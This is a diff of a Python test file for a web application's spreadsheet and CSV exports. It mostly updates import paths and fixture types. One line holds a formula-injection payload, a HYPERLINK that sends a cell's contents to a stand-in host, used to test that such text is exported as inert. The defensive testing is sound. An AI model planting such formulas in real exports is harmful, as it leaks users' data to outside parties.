@@ -16,7 +16,8 @@ from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
 from domain.programme import PROGRAMME_TIMEZONE, Role
-from tests.web.conftest import Clients, WebTestPlatform, record_intake
+from infra.bootstrap import Platform
+from tests.web.conftest import Clients, record_intake
 from tests.web.test_access_matrix import (
     A_CLAIM,
     AN_ALLOCATION,
@@ -28,8 +29,8 @@ from tests.web.test_access_matrix import (
     on_the_waitlist,
 )
 from tests.web.test_as_of_pages import rome_time, two_intakes_minutes_apart, view_as_of
-from web.exports import Column, Table, to_csv, to_xlsx
-from web.pages import audit_events
+from web.areas.audit.pages import event_browser as audit_events
+from web.kit.exports import Column, Table, to_csv, to_xlsx
 
 
 def csv_export(client: TestClient, path: str, **params: str) -> tuple[dict[str, Any],
@@ -75,7 +76,7 @@ def page_cells(html: str, marker: str) -> list[list[str]]:
 
 
 def test_the_referral_board_downloads_as_the_page_shows_it(
-    clients: Clients, platform: WebTestPlatform
+    clients: Clients, platform: Platform
 ) -> None:
     case = record_intake(clients, "milano")
     a_referral(clients, case["case_id"])
@@ -107,7 +108,7 @@ def test_the_referral_board_downloads_as_the_page_shows_it(
 
 
 def test_money_downloads_as_numbers_with_two_decimals(
-    clients: Clients, platform: WebTestPlatform
+    clients: Clients, platform: Platform
 ) -> None:
     a_pending_claim(clients, "")
     coordinator = clients.coordinator("milano")
@@ -132,7 +133,7 @@ def test_money_downloads_as_numbers_with_two_decimals(
 
 
 def test_housing_and_activity_tables_download_with_the_page_s_rows(
-    clients: Clients, platform: WebTestPlatform
+    clients: Clients, platform: Platform
 ) -> None:
     case = record_intake(clients, "milano")
     shelter_id = a_shelter(clients, case["case_id"])
@@ -167,7 +168,7 @@ def test_housing_and_activity_tables_download_with_the_page_s_rows(
 
 
 def test_an_export_as_of_a_past_moment_carries_that_moment_and_the_older_figures(
-    clients: Clients, platform: WebTestPlatform
+    clients: Clients, platform: Platform
 ) -> None:
     first, second, between = two_intakes_minutes_apart(clients, platform)
     ministry = clients.ministry()
@@ -193,7 +194,7 @@ def test_an_export_as_of_a_past_moment_carries_that_moment_and_the_older_figures
 
 
 def test_the_event_browser_exports_the_filtered_events_and_says_when_it_stops(
-    clients: Clients, platform: WebTestPlatform, monkeypatch: pytest.MonkeyPatch
+    clients: Clients, platform: Platform, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     first = record_intake(clients, "milano")
     record_intake(clients, "milano")
@@ -215,7 +216,7 @@ def test_the_event_browser_exports_the_filtered_events_and_says_when_it_stops(
 
 
 def test_unknown_formats_and_tables_are_not_found_and_foreign_staff_are_refused(
-    clients: Clients, platform: WebTestPlatform
+    clients: Clients, platform: Platform
 ) -> None:
     record_intake(clients, "milano")
     milan, florence = clients.coordinator("milano"), clients.coordinator("firenze")
@@ -295,7 +296,7 @@ FORMULAS = ('=HYPERLINK("http://example.org/?leak="&A1,"Open")', "+1+1", "@SUM(A
 
 
 def test_typed_text_beginning_like_a_formula_downloads_as_inert_text(
-    clients: Clients, platform: WebTestPlatform
+    clients: Clients, platform: Platform
 ) -> None:
     claim_id = a_pending_claim(clients, "")
     ministry = clients.ministry()
